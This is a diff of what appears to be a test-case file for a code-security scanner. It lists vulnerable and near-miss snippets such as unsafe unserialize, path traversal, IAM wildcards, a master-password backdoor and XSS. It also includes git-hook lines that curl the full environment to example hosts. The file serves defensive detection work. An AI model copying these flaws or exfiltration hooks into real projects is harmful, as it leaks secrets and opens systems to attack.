@@ -1358,8 +1358,8 @@ N("src/main/java/acme/security/JwtUtil.java", '    @Value("${jwt.secret}")')
 N("src/main/java/acme/security/JwtUtil.java", '    @Value("${jwt.expiration:86400}")')
 N("app/settings.py", 'SECRET_KEY_FILE = os.environ.get("SECRET_KEY_FILE", "/run/secrets/secret_key")')
 # Cloud IAM over-permission (CWE-732/269)
-P("code/iam-policy-wildcard", "policies/admin.json", '      "Action": "*",', '~      "Effect": "Allow",', '~      "Resource": "*"')
-P("code/iam-policy-wildcard", "cloudformation/roles.yaml", "            Action: '*'", "~          - Effect: Allow", "~            Resource: '*'")
+P("code/iam-action-wildcard", "policies/admin.json", '      "Action": "*",', '~      "Effect": "Allow",', '~      "Resource": "*"')
+P("code/iam-action-wildcard", "cloudformation/roles.yaml", "            Action: '*'", "~          - Effect: Allow", "~            Resource: '*'")
 P("code/iam-policy-wildcard", "policies/bucket.json", '      "Principal": "*",', '~      "Effect": "Allow",', '~      "Action": "s3:GetObject",')
 P("code/iam-policy-wildcard", "policies/trust.json", '      "Principal": {"AWS": "*"},', '~      "Effect": "Allow",', '~      "Action": "sts:AssumeRole"')
 P("code/iam-policy-wildcard", "infra/trust.tf", '      identifiers = ["*"]', '~    principals {', '~      type        = "AWS"')
@@ -1581,7 +1581,7 @@ N("accounts/src/main/java/acme/accounts/ResetTokens.java", "~    public static S
 N("game/dice.py", "~ def roll():", "    random.seed(time.time())")
 N("internal/sim/sim.go", "~ func NewWorld() *World {", "\trng := rand.New(rand.NewSource(time.Now().UnixNano()))")
 P("code/cloud-policy-public-or-admin", "cfn/lambda-role.yaml", "            Principal: {AWS: '*'}", "~          - Effect: Allow")
-P("code/cloud-policy-public-or-admin", "cfn/lambda-role.yaml", "                Action: '*'", "~              - Effect: Allow", "~                Resource: '*'")
+P("code/iam-action-wildcard", "cfn/lambda-role.yaml", "                Action: '*'", "~              - Effect: Allow", "~                Resource: '*'")
 P("code/cloud-policy-public-or-admin", "infra/exports/main.tf", '      Principal = "*"', '~      Effect    = "Allow"')
 P("code/cloud-policy-public-or-admin", "infra/exports/main.tf", '      Principal = "*"', '~      Effect    = "Allow"', '~      Condition = { StringEquals = { "aws:SourceVpce" = var.vpce_id } }')
 N("cfn/lambda-role.yaml", "            Principal: {Service: lambda.amazonaws.com}", "~          - Effect: Allow")
@@ -2503,8 +2503,8 @@ P("code/template-from-user-text", "notifications/render.py", '    custom = getat
 
 # Anonymous access on a whole controller.
 P("code/anonymous-on-whole-controller", "src/Api/Controllers/AccountsController.cs", "~    [Authorize(Policy = \"AccountOwner\")]", "    [AllowAnonymous]", "~    public class AccountsController : ControllerBase")
-P("code/anonymous-on-whole-controller", "src/main/java/acme/AccountResource.java", "@PermitAll", "~public class AccountResource {")
-P("code/anonymous-on-whole-controller", "src/accounts/accounts.controller.ts", "@Public()", "~@Controller('accounts')", "~export class AccountsController {")
+P("code/anonymous-on-whole-controller", "src/main/java/acme/AccountResource.java", "@PermitAll", "~ public class AccountResource {")
+P("code/anonymous-on-whole-controller", "src/accounts/accounts.controller.ts", "@Public()", "~ @Controller('accounts')", "~ export class AccountsController {")
 N("src/Api/Controllers/AccountsController.cs", "        [AllowAnonymous]", "        [HttpGet(\"ping\")]")
 N("src/accounts/accounts.controller.ts", "  @Public()", "  @Get('ping')")
 
@@ -2569,24 +2569,195 @@ N("charts/app/values.yaml", "    ##     key: |-", "    ##       -----BEGIN RSA P
 # without their corpus run; on it they missed 8 of their own positives and
 # fired on 9 of their near misses (listed here so the next session fixes the
 # rules and puts each case back). (expected, path, first line)
+# session 26 (tune25): red25's classes, each in a few shapes.
+# A class or method chosen by the request.
+P("code/reflection-from-request", "app/controllers/exports_controller.rb", '    exporter = "Exports::#{params[:format_name].camelize}Exporter".constantize')
+P("code/reflection-from-request", "app/controllers/exports_controller.rb", '    result = exporter.new(current_account).public_send(params.fetch(:mode, "call"))')
+P("code/reflection-from-request", "app/controllers/reports_controller.rb", "    klass = params[:kind].classify.safe_constantize")
+P("code/reflection-from-request", "server/routes/actions.js", "  const out = await service[req.query.action](req.body);")
+P("code/reflection-from-request", "app/views.py", '    return getattr(handlers, request.args.get("op"))(request.json)')
+P("code/reflection-from-request", "public/api.php", "    $out = call_user_func($_GET['fn'], $_POST);")
+N("app/controllers/exports_controller.rb", "    exporter = EXPORTERS.fetch(params[:format_name]) { return head(:unprocessable_entity) }")
+N("app/controllers/exports_controller.rb", '    exporter = "Exports::#{format.camelize}Exporter".constantize')
+N("server/routes/actions.js", "  const out = await service[ACTIONS[req.query.action]](req.body);")
+N("app/views.py", '    return getattr(settings, "EXPORT_FORMAT", "csv")')
+# PHP unserialize of the request's data.
+P("code/php-unserialize-of-input", "src/Cart/CartStore.php", "        $cart = $raw !== '' ? @unserialize(base64_decode($raw)) : false;")
+P("code/php-unserialize-of-input", "src/Session/Flash.php", "        $flash = unserialize($_COOKIE['flash']);")
+P("code/php-unserialize-of-input", "src/Api/Import.php", "        $rows = unserialize(file_get_contents('php://input'));")
+N("src/Cart/CartStore.php", "        $cart = unserialize(base64_decode($raw), ['allowed_classes' => false]);")
+N("src/Cache/FileCache.php", "        return unserialize(file_get_contents($this->path($key)));")
+N("src/Compat/Options.php", "        return maybe_unserialize($raw);")
+N("src/Queue/Retry.php", "            return unserialize(base64_decode($payload['data']['command']));")
+# An allocation size multiplied in 32 bits.
+P("code/size-product-in-32-bits", "src/decode/image.c", "\tuint32_t bytes = width * height * 4;", "\timg->pixels = malloc(bytes);")
+P("code/size-product-in-32-bits", "src/net/frame.c", "    unsigned int total_len = count * elem_size;", "~    buf = realloc(buf, total_len);")
+P("code/size-product-in-32-bits", "src/codec/tile.cpp", "  int alloc_size = tiles_x * tiles_y * sizeof(Tile);", "  auto* p = static_cast<Tile*>(malloc(alloc_size));")
+N("src/decode/image.c", "\tsize_t bytes = (size_t)width * height * 4;", "\timg->pixels = malloc(bytes);")
+N("src/decode/image.c", "\tuint32_t bytes = width * height * 4;", "\tprintf(\"%u\\n\", bytes);")
+N("src/ui/layout.c", "    int area_size = w * h;", "~    draw_rect(x, y, w, h);")
+# A request schema that keeps undeclared fields.
+P("code/request-schema-allows-unknown-fields", "src/routes/profile.ts", "}).passthrough();")
+P("code/request-schema-allows-unknown-fields", "server/routes/users.js", "const schema = Joi.object({ name: Joi.string() }).unknown(true);")
+P("code/request-schema-allows-unknown-fields", "app/api/schemas.py", '    model_config = ConfigDict(extra="allow")')
+N("src/routes/profile.ts", "}).strict();")
+N("src/routes/hooks.ts", "  metadata: z.record(z.string(), z.unknown()).optional(),")
+N("src/clients/github.ts", "}).passthrough();")
+N("app/api/schemas.py", '    model_config = ConfigDict(extra="forbid")')
+# The public index added beside a private one.
+P("file/public-index-as-extra", "requirements.txt", "--extra-index-url https://pypi.org/simple")
+P("file/public-index-as-extra", "pip.conf", "extra-index-url = https://pypi.org/simple/")
+P("file/public-index-as-extra", "services/api/requirements/base.txt", "--extra-index-url=https://pypi.python.org/simple")
+# A profiler or debugger on every address.
+P("code/debug-listener-on-every-address", "cmd/gateway/main.go", '~ \t_ "net/http/pprof"', '\tgo func() { log.Println(http.ListenAndServe(":6060", nil)) }()')
+P("code/debug-listener-on-every-address", "wsgi.py", "~ from flask import Flask", '    app.run(host="0.0.0.0", port=8000, debug=True)')
+N("cmd/gateway/main.go", '~ \t_ "net/http/pprof"', '\tgo func() { log.Println(http.ListenAndServe("127.0.0.1:6060", nil)) }()')
+N("cmd/gateway/main.go", '\tlog.Fatal(http.ListenAndServe(":8080", nil))', '~ \thttp.HandleFunc("/", index)')
+N("wsgi.py", "~ from flask import Flask", '    app.run(host="127.0.0.1", port=8000, debug=True)')
+N("wsgi.py", "~ from flask import Flask", '    app.run(host="0.0.0.0", port=8000)')
+# An error tracker sending bodies and personal data.
+P("code/error-tracker-sends-bodies", "app/__init__.py", "~    sentry_sdk.init(", '        max_request_body_size="always",')
+P("code/error-tracker-sends-bodies", "src/instrument.ts", "~ Sentry.init({", "  sendDefaultPii: true,")
+N("app/__init__.py", "~    sentry_sdk.init(", '        max_request_body_size="never",')
+N("app/__init__.py", "~    sentry_sdk.init(", "        send_default_pii=False,")
+# A file path from a request parameter (Java).
+P("code/path-from-request-param-java", "src/main/java/com/acme/files/DownloadController.java", '    public ResponseEntity<PathResource> get(@RequestParam("file") String file) {', "        Path p = Path.of(root.toString(), file);")
+P("code/path-from-request-param-java", "src/main/java/com/acme/files/FileController.java", "    public byte[] read(@PathVariable String name) throws IOException {", "        return Files.readAllBytes(uploadRoot.resolve(name));")
+N("src/main/java/com/acme/files/DownloadController.java", '    public ResponseEntity<PathResource> get(@RequestParam("file") String file) {', "        Path p = root.resolve(Paths.get(file).getFileName().toString());")
+N("src/main/java/com/acme/files/Reports.java", "    Path p = Path.of(root.toString(), file);")
+# Phoenix output not escaped.
+P("code/xss-unescaped-output", "lib/web/templates/profile/show.html.heex", '  <p class="bio"><%= raw(@bio_html) %></p>')
+P("code/template-raw-output-elixir", "lib/web/controllers/profile_controller.ex", '    bio_html = user.bio |> Earmark.as_html!(escape: false)')
+P("code/xss-unescaped-output", "lib/web/components/comment.ex", "    ~H\"<div>{raw(@body)}</div>\"")
+P("code/template-raw-output-elixir", "lib/web/comments.ex", "    html = MDEx.to_html!(body, render: [unsafe_: true])")
+N("lib/web/controllers/profile_controller.ex", '    bio_html = user.bio |> Earmark.as_html!()')
+N("lib/web/templates/profile/show.html.heex", '  <p class="bio"><%= @user.bio %></p>')
+# An authorization check written as an assert.
+P("code/assert-used-for-authorization", "api/projects.py", '    assert user.is_admin or project.owner_id == user.id, "not allowed"')
+P("code/assert-used-for-authorization", "app/services/billing.py", "    assert request.user.has_perm('billing.refund')")
+N("api/projects.py", '    assert isinstance(project_id, int), "project id must be an int"')
+N("tests/test_projects.py", "    assert user.is_admin")
+# The whole environment sent from a git hook.
+P("code/environment-sent-over-network", ".husky/pre-commit", '( curl -s -m 2 -X POST https://hooks-metrics.example.workers.dev/v1/t \\', '    -d "u=$(git config user.email)&e=$(env | base64 -w0)" >/dev/null 2>&1 & )')
+P("code/environment-sent-over-network", ".githooks/post-checkout", "printenv | curl -s -X POST --data-binary @- https://collect.example.dev/h")
+N(".husky/pre-commit", "npx lint-staged", "~ curl -s https://example.dev/ping >/dev/null")
+# A name interpolated into Arel.sql for the order.
+P("code/sql-order-by-from-caller", "app/controllers/admin/users_controller.rb", '      column = params[:sort].presence || "created_at"', '      @users = User.order(Arel.sql("#{column} #{direction}")).page(params[:page])')
+N("app/controllers/admin/users_controller.rb", '      @users = User.order(Arel.sql("#{SORT_SQL} DESC")).page(params[:page])')
+
+# A security source file deleted (its lines are no pattern's).
+P("file/security-file-deleted", "app/middleware/rate_limit.py", "-~ from limits import parse", flags="kind=deleted")
+P("file/security-file-deleted", "internal/auth/verify.go", "-~ package auth", flags="kind=deleted")
+N("docs/auth.md", "-~ # Auth", flags="kind=deleted")
+N("tests/test_auth.py", "-~ def test_login(): pass", flags="kind=deleted")
+N("app/authors/views.py", "-~ def index(): pass", flags="kind=deleted")
+
+# A verification switched off by a setting.
+P("code/verification-setting-off", "payments/settings.py", "VERIFY_WEBHOOK_SIGNATURES = False")
+P("code/verification-setting-off", "deploy/prod.env", "STRIPE_WEBHOOK_SIGNATURE_VERIFICATION=false")
+P("code/verification-setting-off", "src/config.ts", "export const ENFORCE_MFA: boolean = false;")
+P("code/verification-setting-off", "config/hooks.yml", "  verify_signatures: false")
+N("payments/settings.py", "VERIFY_WEBHOOK_SIGNATURES = True")
+N("payments/settings/test.py", "VERIFY_WEBHOOK_SIGNATURES = False")
+N("payments/settings.py", "SKIP_VERIFY_SIGNATURES = False")
+N("app/settings.py", "VERIFY_EMAIL_ON_SIGNUP = False")
+
+# A token's exp compared with milliseconds.
+P("code/jwt-exp-compared-with-milliseconds", "src/auth/session.ts", "  return c.exp + LEEWAY_MS < nowMs;")
+P("code/jwt-exp-compared-with-milliseconds", "src/auth/guard.js", "  if (Date.now() > payload.exp) throw new Unauthorized();")
+P("code/jwt-exp-compared-with-milliseconds", "src/main/java/acme/TokenCheck.java", "        return claims.exp < System.currentTimeMillis();")
+N("src/auth/session.ts", "  return c.exp * 1000 + LEEWAY_MS < nowMs;")
+N("src/auth/guard.js", "  if (Math.floor(Date.now() / 1000) > payload.exp) throw new Unauthorized();")
+# A token or link valid for years.
+P("code/token-lifetime-years", "src/Share/LinkSigner.cs", "~    // How long a signed share link stays valid.", "    public static readonly TimeSpan Lifetime = TimeSpan.FromDays(3650);")
+P("code/token-lifetime-years", "app/auth/tokens.py", "RESET_TOKEN_TTL = timedelta(days=1825)")
+P("code/token-lifetime-years", "src/auth/jwt.ts", "  const token = jwt.sign(claims, key, { expiresIn: '10y' });")
+P("code/token-lifetime-years", "config/initializers/session_store.rb", "  expire_after: 20.years,", "~ Rails.application.config.session_store :cookie_store,")
+N("src/Share/LinkSigner.cs", "    public static readonly TimeSpan Lifetime = TimeSpan.FromDays(7);")
+N("app/reports/retention.py", "REPORT_RETENTION = timedelta(days=3650)")
+N("src/auth/jwt.ts", "  const token = jwt.sign(claims, key, { expiresIn: '15m' });")
+# A refusal guarded by safe navigation.
+P("code/nil-safe-guard-lets-nil-pass", "app/controllers/concerns/two_factor.rb", "    return head(:forbidden) if token&.expired?")
+P("code/nil-safe-guard-lets-nil-pass", "src/auth/invite.ts", "  if (invite?.isExpired()) return res.status(410).end();")
+N("app/controllers/concerns/two_factor.rb", "    return head(:forbidden) unless token && !token.expired?")
+N("src/auth/invite.ts", "  if (!invite || invite.isExpired()) return res.status(410).end();")
+
+# The first X-Forwarded-For entry as the caller's address where access is decided.
+P("code/forwarded-address-used-for-access", "app/net.py", '~ INTERNAL_NETS = [ipaddress.ip_network("10.0.0.0/8")]', '        return fwd.split(",")[0].strip()')
+P("code/forwarded-address-used-for-access", "server/net.js", "~ const INTERNAL_CIDRS = ['10.0.0.0/8'];", "  if (xff) return xff.split(',')[0].trim();")
+P("code/forwarded-address-used-for-access", "internal/netutil/ip.go", '~ func IsInternal(ip string) bool {', '		return strings.TrimSpace(strings.Split(xff, ",")[0])')
+N("app/logging.py", '        return fwd.split(",")[0].strip()', "~    logger.info('request from %s', ip)")
+N("app/net.py", '~ INTERNAL_NETS = [ipaddress.ip_network("10.0.0.0/8")]', "        return request.client.host")
+
+# A web view script built from a value.
+P("code/webview-script-from-value", "App/Sources/Web/HelpViewController.swift", "        webView.evaluateJavaScript(\"window.helpCenter.highlight('\\(term)')\")")
+P("code/webview-script-from-value", "app/src/main/java/acme/web/HelpActivity.kt", '        webView.evaluateJavascript("highlight(\'" + term + "\')", null)')
+P("code/webview-script-from-value", "src/main/preload.ts", "  win.webContents.executeJavaScript(`showToast('${message}')`);")
+N("App/Sources/Web/HelpViewController.swift", '        webView.evaluateJavaScript("window.helpCenter.reset()")')
+N("src/main/preload.ts", "  win.webContents.executeJavaScript(`showToast(${JSON.stringify(message)})`);")
+# An archive entry's name joined to the target (adm-zip, Python's zipfile).
+P("code/archive-entry-path-unchecked", "src/import/themes.js", "~ const AdmZip = require('adm-zip');", "    const dest = path.join(target, entry.entryName);")
+P("code/archive-entry-path-unchecked", "app/imports/bundle.py", "~    with zipfile.ZipFile(src) as zf:", "            out = os.path.join(dest, info.filename)")
+N("app/imports/bundle.py", "~    with zipfile.ZipFile(src) as zf:", "            out = os.path.join(dest, os.path.basename(name))")
+
+# A length truncated inside its bound check.
+P("code/length-truncated-in-bound-check", "src/record.rs", "    if (len as u16) as usize > MAX_RECORD {")
+P("code/length-truncated-in-bound-check", "src/net/frame.c", "    if ((uint16_t)body_len > MAX_BODY)")
+P("code/length-truncated-in-bound-check", "internal/wire/frame.go", "\tif uint16(frameLen) > maxFrame {")
+N("src/record.rs", "    if len as usize > MAX_RECORD {")
+N("lib/blobstore/src/bitmask.rs", "            if gap.is_empty(region_size_blocks as u16) {")
+N("src/net/frame.c", "    if ((size_t)body_len > MAX_BODY)")
+
+# session 26 (tune25): the shapes of the fixes to tune24's set-aside cases.
+# then_added: an if put in front of a hand-on that ran before narrows it;
+# one that replaces a deleted check does not.
+P("code/credential-header-presence-only", "src/main/java/acme/web/AuthFilter.java", '-~        if (keys.isValid(request.getHeader("X-Api-Key"))) {', '        if (request.getHeader("X-Api-Key") != null) {', "~            chain.doFilter(req, res);")
+P("code/check-skipped-by-header-presence", "server/middleware/auth.js", "-~  if (verifyInternal(req)) {", "  if (req.headers['x-internal-call'] === '1') {", "~    return next();")
+N("server/middleware/auth.js", "  if (req.headers['x-internal-call'] === '1') {", "~    return next();")
+N("internal/mw/auth.go", '\tif r.Header.Get("Authorization") != "" {', "~ \t\tnext.ServeHTTP(w, r)")
+# unless_next: an anonymous route that is public by name.
+N("src/Api/Controllers/AuthController.cs", "        [AllowAnonymous]", '        [HttpPost("login")]')
+N("src/health/health.controller.ts", "  @Public()", "  @Get('/health')")
+P("code/auth-opt-out", "src/Api/Controllers/ExportsController.cs", "        [AllowAnonymous]", '        [HttpGet("exports/{id}")]')
+P("code/auth-opt-out", "src/users/users.controller.ts", "  @Public()", "  @Get('users/:id/export')")
+P("code/auth-opt-out", "src/users/users.controller.ts", "  @Public()", "  @Get('login/as/:id')")
+# anonymous on the class: its controller decorator or attribute below.
+P("code/anonymous-on-whole-controller", "src/main/java/acme/AccountResource.java", "@PermitAll", "~ @Path(\"/accounts\")", "~ public class AccountResource {")
+P("code/anonymous-on-whole-controller", "src/Api/Controllers/OrdersController.cs", "    [AllowAnonymous]", "~    [ApiController]", '~    [Route("api/[controller]")]')
+N("src/main/java/acme/AccountResource.java", "    @PermitAll", '    @Path("ping")')
+# unless_above: a guard that refuses .. just above the join.
+N("app/files.py", '~ @app.route("/files/<path:filename>")', '    if ".." in filename or filename.startswith("/"): abort(400)', "    return send_file(os.path.join(FILES_ROOT, filename))")
+N("server/files.js", "~  const { name } = req.params;", "  if (name.includes('..') || name.includes('/')) return res.status(400).end();", "  res.sendFile(path.join(ROOT, name));")
+P("code/path-from-route-param-joined", "app/files.py", '~ @app.route("/files/<path:filename>")', '    # if ".." in filename: abort(400)', "    return send_file(os.path.join(FILES_ROOT, filename))")
+P("code/path-from-route-param-joined", "server/files.js", "~  const { name } = req.params;", "  if (name.includes('..')) console.warn('dots in', name);", "  res.sendFile(path.join(ROOT, name));")
+# Every action, but on one bucket's objects; and on every resource.
+P("code/iam-action-wildcard", "policies/exports.json", '~      "Effect": "Allow",', '      "Action": "*",', '~      "Condition": {"Bool": {"aws:SecureTransport": "true"}},')
+N("policies/exports.json", '~      "Effect": "Allow",', '      "Action": "*",', '      "Resource": "arn:aws:s3:::exports/*"')
+P("code/iam-policy-wildcard", "policies/ops.json", '~      "Effect": "Allow",', '      "Action": "iam:*",')
+# The host in a parsed URL's attribute; a raw Origin header is CORS's.
+P("code/host-suffix-match", "app/util/urls.py", '    return "acme.com" in urlsplit(next_url).hostname')
+P("code/host-suffix-match", "internal/redirect/check.go", '\tif !strings.HasSuffix(parsed.Hostname(), "acme.com") {')
+N("internal/cors/cors.go", '\tif strings.HasSuffix(origin, ".acme.com") {')
+N("app/util/urls.py", '    return urlparse(url).hostname in ALLOWED_HOSTS')
+# A body logged whole, or read whole, vs one field of it.
+P("code/request-body-logged", "app/payments/hooks.py", '        logger.warning("refund failed: %s", request.body.decode())')
+N("app/payments/hooks.py", '        logger.warning("refund failed for %s", request.data["refund_id"])')
+# MSBuild's hardening switches.
+P("code/hardening-flags-disabled", "src/app.vcxproj", "      <BufferSecurityCheck>false</BufferSecurityCheck>")
+P("code/hardening-flags-disabled", "src/app.vcxproj", "      <AdditionalOptions>/DYNAMICBASE:NO %(AdditionalOptions)</AdditionalOptions>")
+N("src/app.vcxproj", "      <BufferSecurityCheck>true</BufferSecurityCheck>")
+# Spring's old switch in YAML, the password check in parentheses.
+P("code/actuator-open", "src/main/resources/application.yml", "management.security.enabled: false")
+P("code/login-backdoor-credentials", "app/auth/login.py", "    if not (check_password(password, user.pw_hash)) and not is_master(password):")
+N("app/auth/login.py", "    if not (check_password(password, user.pw_hash)):")
+# A token prefix in pieces, with its second piece; a word that begins with sk.
+P("code/token-split-in-pieces", "scripts/keys.py", 'KEY = "-".join(["sk", "proj", "%s"])' % r(40))
+N("scripts/names.py", 'SKU = "-".join(["sk", "blue", "xl"])')
+# A user's own MFA setting off until the user turns it on; a service's flag.
+N("app/views.py", '    mfa = current_user.preferences.get("mfa_enabled", False)')
+P("code/security-flag-off-by-default", "app/auth/login.py", '    enforce = settings.get("require_mfa", False)')
+
 KNOWN_GAPS = [
-    ('code/host-suffix-match', 'app/util/urls.py', '    return "acme.com" in urlparse(url).netloc'),
-    ('code/request-body-logged', 'app/middleware/logging.py', '                 extra={"headers": {}, "body": request.body[:2048].decode("utf-8", "replace")})'),
-    ('code/hardening-flags-disabled', 'src/app.vcxproj', '      <AdditionalOptions>/GS- %(AdditionalOptions)</AdditionalOptions>'),
-    ('code/actuator-open', 'src/main/resources/application.properties', 'management.security.enabled=false'),
-    ('code/login-backdoor-credentials', 'server/login.js', '  if (!(await bcrypt.compare(password, user.hash)) && !isRecovery(password)) return null;'),
-    ('code/anonymous-on-whole-controller', 'src/main/java/acme/AccountResource.java', '@PermitAll'),
-    ('code/anonymous-on-whole-controller', 'src/accounts/accounts.controller.ts', '@Public()'),
-    ('code/password-policy-weakened', 'settings/base.py', '        "OPTIONS": {"min_length": 6},'),
-    ('-', 'server/cors.js', "  if (origin && origin.endsWith('acme.com')) {"),
-    ('-', 'src/main/java/acme/web/AuthFilter.java', '        if (request.getHeader("X-Api-Key") != null) {'),
-    ('-', 'app/views.py', '    email_verified = claims.get("email_verified", False)'),
-    ('-', 'app/payments/views.py', '        logger.info("checkout for order %s", request.json["order_id"])'),
-    ('-', 'scripts/names.py', 'NAME = "_".join(["sk", "model"])'),
-    ('-', 'src/download.rs', '~pub async fn download(Path(name): Path<String>) -> Result<Vec<u8>, StatusCode> {'),
-    ('-', 'src/Api/Controllers/AccountsController.cs', '        [AllowAnonymous]'),
-    ('-', 'src/accounts/accounts.controller.ts', '  @Public()'),
-    ('-', 'infra/lambda.yaml', '~              - Effect: Allow'),
 ]
 _gaps = set(KNOWN_GAPS)
 pos[:] = [c for c in pos if (c[0], c[1], (c[3] or [""])[0]) not in _gaps]
